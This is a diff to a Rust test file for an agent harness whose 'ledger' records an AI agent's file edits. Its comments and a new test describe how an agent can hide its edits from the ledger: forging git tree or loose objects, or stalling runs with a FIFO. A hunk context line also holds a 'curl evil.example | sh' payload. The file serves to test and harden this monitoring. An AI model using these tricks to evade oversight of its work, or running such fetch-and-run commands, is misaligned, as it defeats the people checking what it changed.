@@ -32,6 +32,11 @@
 //! * the ledger copied the user's index with `fs::copy`, which follows a symlink and
 //!   waits on a FIFO: an agent that made `.git/index` a FIFO held every later run's
 //!   snapshot, and with it that run, until something killed coder.
+//! * the ledger compared the "before" and "after" trees with `git diff-tree`; a tree that
+//!   already exists in the repository (the "before" of an unchanged checkout is `HEAD`'s)
+//!   is not written again, and the repository's objects are the agent's to rewrite: it
+//!   rewrote `HEAD`'s tree object to list its new content, and the ledger reported the
+//!   edit unchanged.
 //!
 //! Open (`KNOWN_OPEN`): the agent rewrites a loose object of the user's repository (its
 //! `.git/objects` is writable, commits work) that holds the "before" content of a file it
@@ -536,6 +541,46 @@ chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; op
             } else {
                 assert!(shown, "{case}: the diff hides the edit: {env}");
             }
+        }
+    }
+}
+
+/// The ledger's "before" of a checkout with no local change is `HEAD`'s tree, which
+/// `git write-tree` finds in the repository and does not write again; `git diff-tree`
+/// then read it from `.git/objects`, which the agent may write. It rewrote that tree
+/// object (same name) to list the blob of its new content, and the ledger reported
+/// nothing changed. Now what changed is read from the two private indexes, coder's own;
+/// the file is listed (its lines, read from the forged objects, are not counted).
+/// Control: `git diff-tree` finds `HEAD`'s tree the same as the forged one.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_forged_tree_object_does_not_hide_the_edit_from_the_ledger() {
+    common::require_root_and_user_namespaces();
+    let name = "forged tree object";
+    let payload = r#"sleep 1; t=$(git rev-parse 'HEAD^{tree}'); printf 'EVIL\n' > a.txt
+nb=$(git hash-object -w a.txt)
+forged=$(printf '100644 blob %s\ta.txt\n100644 blob %s\tb.txt\n' "$nb" "$(git rev-parse HEAD:b.txt)" | git mktree)
+f=.git/objects/${t:0:2}/${t:2}; g=.git/objects/${forged:0:2}/${forged:2}
+chmod u+w "$f" && cp "$g" "$f" && echo "FORGED $forged FORGED""#;
+    for owner in [None, Some(NOBODY)] {
+        let tree = Tree::new(owner, &[("a.txt", "hello\n"), ("b.txt", "b\n")], &[]);
+        let case = format!("{}: {name}", who(owner));
+        let head = tree.git(&["rev-parse", "HEAD^{tree}"]);
+        let env = tree.run(&[], payload);
+        assert!(result(&env).contains("FORGED"), "{case}: {env}");
+        // Control: git's tree comparison reads `HEAD`'s tree as the new content's.
+        let forged = result(&env)
+            .split("FORGED")
+            .nth(1)
+            .unwrap_or_default()
+            .trim();
+        let differ = tree.git(&["diff-tree", "-r", "--name-only", head.trim(), forged]);
+        assert_eq!(differ, "", "{case}: control: {env}");
+        let reported = changes(&env).contains(&("a.txt".into(), "modified".into()));
+        if KNOWN_OPEN.contains(&name) {
+            assert!(!reported, "{case}: now reported: {env}");
+        } else {
+            assert!(reported, "{case}: the edit is reported unchanged: {env}");
         }
     }
 }
